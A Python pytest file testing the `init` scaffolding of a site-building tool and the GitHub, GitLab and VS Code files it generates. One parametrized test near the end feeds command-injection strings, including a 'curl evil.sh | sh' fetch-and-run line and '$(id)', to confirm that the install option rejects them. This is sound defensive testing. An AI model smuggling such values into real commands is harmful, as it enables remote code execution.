"""`outcomesite init`: a new site that checks and builds at once, and CI files that run the same
commands these tests run."""

from __future__ import annotations

import datetime as dt
import json
import re
import shlex
import subprocess
import tomllib
from pathlib import Path
from typing import Any

import pytest
import yaml
from pypdf import PdfReader

from outcomesite import __version__
from outcomesite.build import BuildOptions, build_site
from outcomesite.errors import EXIT_USAGE, OutcomesiteError
from outcomesite.layout import CACHE_DIR, default_as_of
from outcomesite.load.config import load_config
from outcomesite.model.config import SiteConfig
from outcomesite.model.fields import fields_by_key
from outcomesite.model.schema import account_json_schema_text
from outcomesite.scaffold.init import SITE_TEMPLATE, init_site
from tests.conftest import AS_OF, ROOT, run_cli

CREATED = [
    "outcomesite.yaml",
    "content/accounts/example-customer.md",
    "schema/account.schema.json",
    ".gitignore",
    ".github/workflows/outcomesite.yml",
    ".github/workflows/outcomesite-record.yml",
    ".github/dependabot.yml",
    ".gitlab-ci.yml",
    ".gitlab/outcomesite-record.yml",
    ".vscode/tasks.json",
]
INSTALL = f'python -m pip install "outcomesite=={__version__}"'
CHECK_COMMAND = "outcomesite check --format github"
BUILD_COMMAND = "outcomesite build"
SECRET_FROM_GITHUB = "${{ secrets.OUTCOMESITE_SECRET }}"


def init(tmp_path: Path) -> Path:
    site = tmp_path / "reports"
    result = run_cli(tmp_path, "init", str(site))
    assert result.exit_code == 0, result.output
    return site


def not_empty_message(target: Path) -> str:
    return (
        f"Error: {target} is not empty: nothing was written; `outcomesite init` only creates a "
        "site in a new or empty folder (a .git folder is fine). Choose a new folder, e.g. "
        "`outcomesite init reports`, or add an account to an existing site with "
        "`outcomesite new SLUG`\n"
    )


def github_workflow(site: Path) -> dict[str, Any]:
    data = yaml.safe_load((site / ".github/workflows/outcomesite.yml").read_text(encoding="utf-8"))
    assert isinstance(data, dict)
    return data


def steps(job: dict[str, Any]) -> list[dict[str, Any]]:
    return list(job["steps"])


def runs(job: dict[str, Any]) -> list[str]:
    return [step["run"] for step in steps(job) if "run" in step]


def step_using(job: dict[str, Any], action: str) -> dict[str, Any]:
    (found,) = [s for s in steps(job) if s.get("uses", "").split("@")[0] == action]
    return found


def run_command(site: Path, command: str, env: dict[str, str] | None = None) -> Any:
    """Run a CI `run:` line (`outcomesite ...`) through the real CLI, in the site's folder."""
    program, *args = shlex.split(command)
    assert program == "outcomesite"
    return run_cli(site, *args, env=env)


# The whole path: init, then the exact commands the GitHub workflow runs.


def test_init_then_the_workflow_commands_check_and_build(tmp_path: Path) -> None:
    site = tmp_path / "reports"
    result = run_cli(tmp_path, "init", str(site))
    assert result.exit_code == 0, result.output
    assert result.stdout == "".join(f"created {name}\n" for name in CREATED)
    assert "outcomesite build" in result.stderr  # the next step
    assert sorted(p.relative_to(site).as_posix() for p in site.rglob("*") if p.is_file()) == sorted(
        CREATED
    )

    workflow = github_workflow(site)
    assert CHECK_COMMAND in runs(workflow["jobs"]["check"])
    assert BUILD_COMMAND in runs(workflow["jobs"]["build"])

    check = run_command(site, CHECK_COMMAND)
    assert check.exit_code == 0, check.output
    assert check.stdout == ""  # not even a warning
    assert "0 error(s), 0 warning(s)" in check.stderr

    # As CI runs it: `CI` set, the secret from the environment (never a local secret file).
    build = run_command(
        site,
        BUILD_COMMAND + " --no-pdf",
        env={"CI": "true", "OUTCOMESITE_SECRET": "s3cret-0123456789abcdef0123456789abcdef"},
    )
    assert build.exit_code == 0, build.output
    reports = list(site.glob("build/public/r/*/index.html"))
    assert len(reports) == 1
    assert "Example Customer" in reports[0].read_text(encoding="utf-8")
    assert (site / "build/internal/index.html").is_file()
    assert not (site / ".outcomesite/secret").exists()


def test_without_the_secret_a_ci_build_fails(tmp_path: Path) -> None:
    """What happens when OUTCOMESITE_SECRET was not created: the build stops, nothing published."""
    site = init(tmp_path)
    build = run_command(
        site, BUILD_COMMAND + " --no-pdf", env={"CI": "true", "OUTCOMESITE_SECRET": ""}
    )
    assert build.exit_code == 2
    assert "OUTCOMESITE_SECRET is not set" in build.stderr
    assert not (site / "build").exists()


def test_the_example_account_stays_warning_free_for_months(tmp_path: Path) -> None:
    site = init(tmp_path)
    later = default_as_of() + dt.timedelta(days=100)  # init dates the example from this day
    check = run_cli(site, "check", "--strict", "--as-of", later.isoformat())
    assert check.exit_code == 0, check.output
    assert check.stdout == ""


def test_init_site_builds_with_pdfs(tmp_path: Path) -> None:
    site = tmp_path / "reports"
    written = init_site(site, AS_OF)
    assert [p.relative_to(site).as_posix() for p in written] == CREATED
    report = build_site(
        site,
        BuildOptions(
            pdf=True,
            as_of=AS_OF,
            jobs=1,
            environ={"OUTCOMESITE_SECRET": "s3cret-0123456789abcdef0123456789abcdef"},
        ),
    )
    assert report.pdfs == 1
    assert not report.warnings
    (pdf,) = site.glob("build/public/r/*/example-customer.pdf")
    text = "".join(page.extract_text() for page in PdfReader(pdf).pages)
    assert "Example Customer" in text
    assert "Measurable Result" in text
    (page,) = report.pages
    assert int(page.account.assessment.rung) == 4  # the example shows the top of the ladder


# Refusals: nothing is written, nothing is changed.


def test_init_refuses_a_folder_that_is_not_empty(tmp_path: Path) -> None:
    site = tmp_path / "reports"
    site.mkdir()
    (site / "notes.txt").write_text("mine\n", encoding="utf-8")
    result = run_cli(tmp_path, "init", str(site))
    assert result.exit_code == 2
    assert result.stdout == ""
    assert result.stderr == not_empty_message(site)
    assert [p.name for p in site.iterdir()] == ["notes.txt"]
    assert (site / "notes.txt").read_text(encoding="utf-8") == "mine\n"


def test_init_refuses_an_existing_site(tmp_path: Path) -> None:
    site = init(tmp_path)
    config = site / "outcomesite.yaml"
    config.write_text("vendor: Mine\n", encoding="utf-8")
    result = run_cli(tmp_path, "init", str(site))
    assert result.exit_code == 2
    assert result.stderr == not_empty_message(site)
    assert config.read_text(encoding="utf-8") == "vendor: Mine\n"


def test_init_refuses_a_file(tmp_path: Path) -> None:
    target = tmp_path / "reports"
    target.write_text("a file\n", encoding="utf-8")
    with pytest.raises(OutcomesiteError) as raised:
        init_site(target, AS_OF)
    assert raised.value.exit_code == EXIT_USAGE
    assert str(raised.value).startswith(f"{target} is a file, not a folder: nothing was written")
    assert run_cli(tmp_path, "init", str(target)).exit_code == 2
    assert target.read_text(encoding="utf-8") == "a file\n"


@pytest.mark.parametrize("existing", [[], [".git"]], ids=["empty", "git-init"])
def test_init_accepts_an_empty_folder_or_a_fresh_git_repository(
    tmp_path: Path, existing: list[str]
) -> None:
    site = tmp_path / "reports"
    site.mkdir()
    for name in existing:
        (site / name).mkdir()
    assert len(init_site(site, AS_OF)) == len(CREATED)
    assert run_cli(site, "check", "--as-of", AS_OF.isoformat()).exit_code == 0


# outcomesite.yaml: every option, commented out, at its default.


def test_config_lists_every_option_commented_out_at_its_default(tmp_path: Path) -> None:
    site = init(tmp_path)
    text = (site / "outcomesite.yaml").read_text(encoding="utf-8")
    assert yaml.safe_load(text) is None  # all comments: the defaults apply as written
    assert load_config(site) == (SiteConfig(), [])
    for name in fields_by_key(SiteConfig):
        # Each option: a line that explains it and names its default, then the option itself
        # (`segments:` opens a block of its own, commented out line by line).
        after = ":\n" if name == "segments" else ": "
        assert re.search(rf"^# [^\n]+ \(default: [^\n]+\)\n# {name}{after}", text, re.M), name

    # Uncommented, every line still validates, at the same defaults (the logo needs its file).
    uncommented = re.sub(r"^# (\w+: )", r"\1", text, flags=re.MULTILINE)
    (site / "outcomesite.yaml").write_text(uncommented, encoding="utf-8")
    (site / "assets").mkdir()
    (site / "assets/logo.svg").write_text("<svg xmlns='http://www.w3.org/2000/svg'/>\n", "utf-8")
    config, problems = load_config(site)
    assert problems == []
    for name, field in fields_by_key(SiteConfig).items():
        default = field.default()
        if default is not None:
            assert getattr(config, name) == default, name
        if default is not None and name != "segments":
            assert re.search(rf"^{name}: ", uncommented, re.MULTILINE), name
    # The segments block uncommented reads back as the defaults too.
    before, after = uncommented.split("# segments:")
    block, rest = after.split("\n\n", 1)
    block = re.sub(r"^# ", "", block, flags=re.M)
    (site / "outcomesite.yaml").write_text(f"{before}segments:{block}\n\n{rest}", "utf-8")
    config, problems = load_config(site)
    assert problems == []
    for segment in ("smb", "mid-market", "enterprise"):
        default = SiteConfig().segments
        assert config.segments.definition(segment) == default.definition(segment)
        assert config.segments.validator_level(segment) == default.validator_level(segment)


def test_schema_and_gitignore(tmp_path: Path) -> None:
    site = init(tmp_path)
    schema = (site / "schema/account.schema.json").read_text(encoding="utf-8")
    assert schema == account_json_schema_text()
    ignored = (site / ".gitignore").read_text(encoding="utf-8").split("\n")
    assert {"build/", ".outcomesite/", ".venv/"} <= set(ignored)


def test_a_builds_own_folders_next_to_build_are_never_committed(tmp_path: Path) -> None:
    """A build stages its output, and spools its PDFs, in folders next to build/ (a killed
    build's stay until the next build): `git add -A` in a new site never picks them up."""
    site = init(tmp_path)
    for folder in (".build.tmp-4242-0badf00d/public", ".build.old-4242-0badf00d"):
        (site / folder).mkdir(parents=True)
        (site / folder / "index.html").write_text("a customer's report", encoding="utf-8")
    subprocess.run(["git", "init", "-q"], cwd=site, check=True)
    status = subprocess.run(
        ["git", "status", "--porcelain", "--untracked-files=all"],
        cwd=site,
        check=True,
        capture_output=True,
        text=True,
    ).stdout
    assert ".build." not in status and "content/accounts/" in status


# The GitHub Actions workflow.


def test_github_workflow_checks_pull_requests(tmp_path: Path) -> None:
    workflow = github_workflow(init(tmp_path))
    triggers: Any = workflow.get("on", workflow.get(True))  # type: ignore[call-overload]  # YAML 1.1 reads a bare `on` as true
    assert "pull_request" in triggers
    assert triggers["push"]["branches"] == ["main"]
    check = workflow["jobs"]["check"]
    assert check["if"] == "github.event_name == 'pull_request'"
    # No system library but the fonts the build draws PDFs with: `check` warns about a character
    # none of them has, on the pull request.
    fonts, install, command = runs(check)
    assert (install, command) == (INSTALL, CHECK_COMMAND)
    build_fonts = {p for p in " ".join(runs(workflow["jobs"]["build"])).split() if "font" in p}
    assert {p for p in fonts.split() if "font" in p} == build_fonts
    assert {"fonts-noto-core", "fonts-noto-color-emoji", "fonts-noto-cjk"} <= build_fonts
    # The history, for the rule that refuses a reused slug.
    assert step_using(check, "actions/checkout")["with"]["fetch-depth"] == 0
    version = step_using(check, "actions/setup-python")["with"]["python-version"]
    assert tuple(int(n) for n in str(version).split(".")) >= (3, 11)
    step_using(check, "actions/checkout")


def test_github_workflow_builds_main_with_full_history_and_the_secret(tmp_path: Path) -> None:
    site = init(tmp_path)
    workflow = github_workflow(site)
    build = workflow["jobs"]["build"]
    assert "refs/heads/main" in build["if"]
    assert step_using(build, "actions/checkout")["with"]["fetch-depth"] == 0
    assert INSTALL in runs(build)
    (build_step,) = [s for s in steps(build) if s.get("run") == BUILD_COMMAND]
    assert build_step["env"] == {"OUTCOMESITE_SECRET": SECRET_FROM_GITHUB}
    # Only the build step sees the secret.
    jobs = workflow["jobs"].values()
    assert [s for j in jobs for s in steps(j) if "OUTCOMESITE_SECRET" in str(s)] == [build_step]
    # Rendered PDFs are restored before the build and saved after it, from the folder builds use.
    cache = step_using(build, "actions/cache")
    assert cache["with"]["path"] == CACHE_DIR.as_posix()
    assert "github.sha" in cache["with"]["key"]
    assert cache["with"]["key"].startswith(cache["with"]["restore-keys"])
    assert steps(build).index(cache) < steps(build).index(build_step)
    raw = (site / ".github/workflows/outcomesite.yml").read_text(encoding="utf-8")
    assert "git+https://github.com/ORG/outcomesite@v0.2.0" in raw  # how to change it


def test_github_pages_gets_public_only_and_internal_stays_private(tmp_path: Path) -> None:
    workflow = github_workflow(init(tmp_path))
    jobs = workflow["jobs"]
    build, deploy = jobs["build"], jobs["deploy"]
    pages = step_using(build, "actions/upload-pages-artifact")
    assert pages["with"]["path"] == "build/public"
    internal = step_using(build, "actions/upload-artifact")
    paths = internal["with"]["path"].split()
    # The private artifact holds the public site beside the index, so that its relative links
    # work once downloaded; it is never the Pages artifact.
    assert paths == ["build/internal", "build/public"]
    # The only Pages upload in the workflow is build/public: internal/ never reaches Pages.
    pages_steps = [s for j in jobs.values() for s in steps(j) if "pages" in s.get("uses", "")]
    assert [s["with"] for s in pages_steps if "with" in s] == [{"path": "build/public"}]
    assert not any("internal" in str(s) for s in pages_steps)
    assert deploy["needs"] == "build"
    assert deploy["permissions"] == {"pages": "write", "id-token": "write"}
    assert deploy["environment"]["name"] == "github-pages"
    assert step_using(deploy, "actions/deploy-pages")["id"] == "deployment"
    # Nothing by default; the jobs that check out the repository may read it, nothing more.
    assert workflow["permissions"] == {}
    assert jobs["check"]["permissions"] == build["permissions"] == {"contents": "read"}


# GitLab CI.


def test_gitlab_ci(tmp_path: Path) -> None:
    site = init(tmp_path)
    ci = yaml.safe_load((site / ".gitlab-ci.yml").read_text(encoding="utf-8"))
    assert ci["variables"]["OUTCOMESITE_INSTALL"] == f"outcomesite=={__version__}"
    assert "before_script" not in ci.get("default", {})
    check = ci["check"]
    assert check["rules"] == [{"if": '$CI_PIPELINE_SOURCE == "merge_request_event"'}]
    install = 'python -m pip install "$OUTCOMESITE_INSTALL"'
    # Checking installs git (for the history) and outcomesite, and no PDF renderer.
    assert check["script"][1:] == [install, "outcomesite check"]
    assert "pango" not in check["script"][0] and "git" in check["script"][0]
    assert str(check["variables"]["GIT_DEPTH"]) == "0"
    build = ci["build"]
    assert str(build["variables"]["GIT_DEPTH"]) == "0"
    assert build["script"][1:] == [install, BUILD_COMMAND]
    assert "libpango" in build["script"][0]
    assert build["cache"]["paths"] == [CACHE_DIR.as_posix() + "/"]
    assert "build/internal/" in build["artifacts"]["paths"]
    assert build["artifacts"]["expire_in"] == "7 days"
    assert build["artifacts"]["access"] == "developer"
    pages = ci["pages"]
    assert pages["needs"] == ["build"]
    assert pages["script"] == ["mv build/public public"]
    assert pages["artifacts"]["paths"] == ["public"]
    assert (
        pages["rules"]
        == build["rules"]
        == [
            {"if": '$CI_PIPELINE_SOURCE == "schedule"', "when": "never"},  # the record schedule
            {"if": "$CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH"},
        ]
    )
    # The check command GitLab runs passes on the new site, too.
    assert run_command(site, check["script"][-1]).exit_code == 0


# The scheduled `outcomesite record`: an export, record, check, and a pull (merge) request.

RECORD_WORKFLOW = Path(".github/workflows/outcomesite-record.yml")
PINNED = re.compile(r"uses: ([\w.-]+/[\w.-]+)@([0-9a-f]{40}) # v\d+\.\d+\.\d+")


def test_the_scheduled_record_workflow_opens_a_pull_request(tmp_path: Path) -> None:
    site = init(tmp_path)
    raw = (site / RECORD_WORKFLOW).read_text(encoding="utf-8")
    workflow = yaml.safe_load(raw)
    triggers: Any = workflow.get("on", workflow.get(True))  # YAML 1.1 reads a bare `on` as true
    assert [entry["cron"] for entry in triggers["schedule"]] == ["17 6 * * 1"]
    assert "workflow_dispatch" in triggers
    assert workflow["permissions"] == {}
    (job,) = workflow["jobs"].values()
    # The job's token pushes a branch and opens a pull request, nothing more.
    assert job["permissions"] == {"contents": "write", "pull-requests": "write"}
    # Skipped on schedule until the team says its export is in place.
    assert (
        job["if"] == "vars.OUTCOMESITE_RECORD == 'true' || github.event_name == 'workflow_dispatch'"
    )
    commands = runs(job)
    assert commands[0] == INSTALL
    assert commands[1] == "python scripts/export_measurements.py > measurements.csv"  # REPLACE
    assert commands[2].startswith("outcomesite record measurements.csv")
    assert commands[3] == CHECK_COMMAND
    assert "gh pr create" in commands[4] and "git add content/accounts" in commands[4]
    (pull_request,) = [s for s in steps(job) if "gh pr create" in s.get("run", "")]
    assert pull_request["env"] == {"GH_TOKEN": "${{ github.token }}"}
    checkout = step_using(job, "actions/checkout")
    assert checkout["with"]["persist-credentials"] is False
    assert checkout["with"]["fetch-depth"] == 0
    # The same pinned releases as the main workflow (Dependabot updates both), no secret, and no
    # expression expanded inside a shell command.
    main = (site / ".github/workflows/outcomesite.yml").read_text(encoding="utf-8")
    assert set(PINNED.findall(raw)) <= set(PINNED.findall(main))
    assert len(PINNED.findall(raw)) == len([s for s in steps(job) if "uses" in s]) == 2
    assert "secrets." not in json.dumps(workflow)
    assert not [c for c in commands if "${{" in c]


def test_the_record_workflow_passes_the_security_audit(tmp_path: Path) -> None:
    from tests.test_workflow_audit import report, zizmor

    result = zizmor(init(tmp_path) / RECORD_WORKFLOW)
    assert result.returncode == 0, report(result)
    assert "No findings" in result.stdout, report(result)


def test_the_record_workflow_commands_record_and_check(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The workflow's own `record` and `check` lines, through the real CLI, in the new site's
    folder as CI runs them."""
    site = init(tmp_path)
    monkeypatch.chdir(site)
    job = yaml.safe_load((site / RECORD_WORKFLOW).read_text(encoding="utf-8"))["jobs"]["record"]
    record_command = runs(job)[2].split(" 2>&1")[0]  # the rest copies the log for the PR body
    today = default_as_of().isoformat()
    (site / "measurements.csv").write_text(
        f"account,result,value,date,source\nexample-customer,month-end-close,4,{today},ERP\n",
        encoding="utf-8",
    )
    recorded = run_command(site, record_command)
    assert recorded.exit_code == 0, recorded.output
    assert recorded.stdout == (
        f"recorded content/accounts/example-customer.md: month-end-close 4 on {today}\n"
    )
    account = (site / "content/accounts/example-customer.md").read_text(encoding="utf-8")
    assert f"measured_on: {today}" in account
    assert run_command(site, runs(job)[3]).exit_code == 0


def test_gitlab_runs_record_in_a_scheduled_pipeline(tmp_path: Path) -> None:
    site = init(tmp_path)
    ci = yaml.safe_load((site / ".gitlab-ci.yml").read_text(encoding="utf-8"))
    assert ci["include"] == [{"local": ".gitlab/outcomesite-record.yml"}]
    raw = (site / ".gitlab/outcomesite-record.yml").read_text(encoding="utf-8")
    record = yaml.safe_load(raw)["record"]
    assert record["stage"] in ci["stages"]
    assert record["rules"] == [{"if": '$CI_PIPELINE_SOURCE == "schedule"'}]
    assert str(record["variables"]["GIT_DEPTH"]) == "0"
    script = record["script"]
    assert script[1] == 'python -m pip install "$OUTCOMESITE_INSTALL"'
    assert script[2] == "python scripts/export_measurements.py > measurements.csv"  # REPLACE
    assert script[3:5] == ["outcomesite record measurements.csv", "outcomesite check"]
    assert "merge_request.create" in script[5] and "git add content/accounts" in script[5]
    # Its own token, from a masked and protected variable; never the share-link secret.
    assert "$OUTCOMESITE_RECORD_TOKEN" in script[5]
    assert "OUTCOMESITE_SECRET" not in raw and "echo" not in raw
    assert "Masked and Protected" in raw


# Packaging: the files init copies are in the wheel.


def test_package_data_ships_the_site_template() -> None:
    pyproject = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))
    patterns = pyproject["tool"]["setuptools"]["package-data"]["outcomesite"]
    package = SITE_TEMPLATE.parent.parent  # the outcomesite package
    shipped = {p for pattern in patterns for p in package.glob(pattern) if p.is_file()}
    template_files = [p for p in SITE_TEMPLATE.rglob("*") if p.is_file()]
    assert template_files
    assert set(template_files) <= shipped


# Editors and hooks: `check` where a CSM edits.


def test_the_vs_code_task_puts_every_problem_on_its_line(tmp_path: Path) -> None:
    """The problem matcher `init` writes reads `check`'s own output: every diagnostic becomes a
    problem at its file and line (VS Code's YAML extension does not read front matter in .md)."""
    import json

    site = init(tmp_path)
    tasks = json.loads((site / ".vscode/tasks.json").read_text(encoding="utf-8"))
    (task,) = tasks["tasks"]
    assert task["command"] == "outcomesite check"
    assert task["group"] == {"kind": "build", "isDefault": True}
    pattern = task["problemMatcher"]["pattern"]
    example = site / "content/accounts/example-customer.md"
    text = example.read_text(encoding="utf-8")
    example.write_text(
        text.replace("segment: enterprise", "segment: Enterprize").replace(
            "    owner: ", "    ower: "
        ),
        encoding="utf-8",
    )
    result = run_cli(site, "check")
    assert result.exit_code == 1
    lines = result.stdout.splitlines()
    assert len(lines) >= 2
    for line in lines:
        match = re.match(pattern["regexp"], line)
        assert match, line
        path, number, severity, message = (
            match.group(pattern[key]) for key in ("file", "line", "severity", "message")
        )
        assert (site / path).is_file()
        assert int(number) >= 1 and severity in ("error", "warning") and message


def test_the_project_offers_a_pre_commit_hook() -> None:
    (hook,) = yaml.safe_load((ROOT / ".pre-commit-hooks.yaml").read_text(encoding="utf-8"))
    assert hook["id"] == "outcomesite-check"
    assert hook["entry"] == "outcomesite check"
    assert hook["language"] == "python" and hook["pass_filenames"] is False
    for path in ("content/accounts/acme.md", "outcomesite.yaml", "themes/brand/x.css"):
        assert re.search(hook["files"], path)
    assert not re.search(hook["files"], "README.md")


# --install: what CI installs.


@pytest.mark.parametrize(
    ("spec", "installed"),
    [
        (None, f"outcomesite=={__version__}"),
        ("0.3.1", "outcomesite==0.3.1"),
        ("outcomesite>=0.2,<0.4", "outcomesite>=0.2,<0.4"),
        (
            "git+https://github.com/acme/outcomesite@v0.1.0",
            "git+https://github.com/acme/outcomesite@v0.1.0",
        ),
        (
            "vendor/outcomesite-0.1.0-py3-none-any.whl",
            "./vendor/outcomesite-0.1.0-py3-none-any.whl",
        ),
    ],
)
def test_init_writes_what_ci_installs(tmp_path: Path, spec: str | None, installed: str) -> None:
    site = tmp_path / "reports"
    args = ["init", str(site)] + (["--install", spec] if spec else [])
    result = run_cli(tmp_path, *args)
    assert result.exit_code == 0, result.output
    assert f"note: the CI workflows install `{installed}`" in result.stderr
    workflow = github_workflow(site)
    for job in ("check", "build"):
        assert f'python -m pip install "{installed}"' in runs(workflow["jobs"][job])
    gitlab = yaml.safe_load((site / ".gitlab-ci.yml").read_text(encoding="utf-8"))
    assert gitlab["variables"]["OUTCOMESITE_INSTALL"] == installed


@pytest.mark.parametrize(
    "spec", ['outcomesite"; curl evil.sh | sh; "', "outcomesite $(id)", "a b", "`id`"]
)
def test_init_refuses_an_install_line_that_is_not_one(tmp_path: Path, spec: str) -> None:
    result = run_cli(tmp_path, "init", str(tmp_path / "reports"), "--install", spec)
    assert result.exit_code == 2
    assert "is not something to install" in result.stderr
    assert not (tmp_path / "reports").exists()


@pytest.mark.parametrize("where", ["afile/sub", "/proc/nope/x"])
def test_init_on_a_path_that_cannot_be_a_folder_is_one_line(tmp_path: Path, where: str) -> None:
    (tmp_path / "afile").write_text("not a folder", encoding="utf-8")
    result = run_cli(tmp_path, "init", where)
    assert result.exit_code == 2
    assert result.stderr.startswith("Error: ")
    assert len(result.stderr.strip().splitlines()) == 1
    assert "Traceback" not in result.output
